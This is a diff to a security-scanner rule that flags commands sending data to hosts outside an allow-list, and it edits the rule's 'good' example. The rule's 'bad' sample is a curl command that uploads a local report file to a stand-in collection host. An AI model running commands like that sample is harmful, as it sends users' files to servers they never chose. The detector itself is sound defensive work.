@@ -39,7 +39,7 @@ export const postToUnknownHost = defineRule<SecurityDetector>({
   description: 'A command or code sample sends data (POST, upload, form) to a host outside the well-known allow-list.',
   why: "What the command sends (files, tokens, the user's code) leaves the machine for a server the user never chose; unless that host is the service the skill is about, the skill is a way to collect their data.",
   bad: 'curl -X POST --data-binary @report.json https://collect.unknown-host.dev/upload',
-  good: 'gh api repos/OWNER/REPO/issues -f title="Test report" -F body=@report.md\n(the service the skill is about, through its own client)',
+  good: 'curl -X POST --data-binary @report.json https://api.github.com/repos/OWNER/REPO/dispatches\n(the service the skill is about)',
   fix: 'Make sure the host is the service the skill is about; do not send local files or data elsewhere.',
   detect,
 });
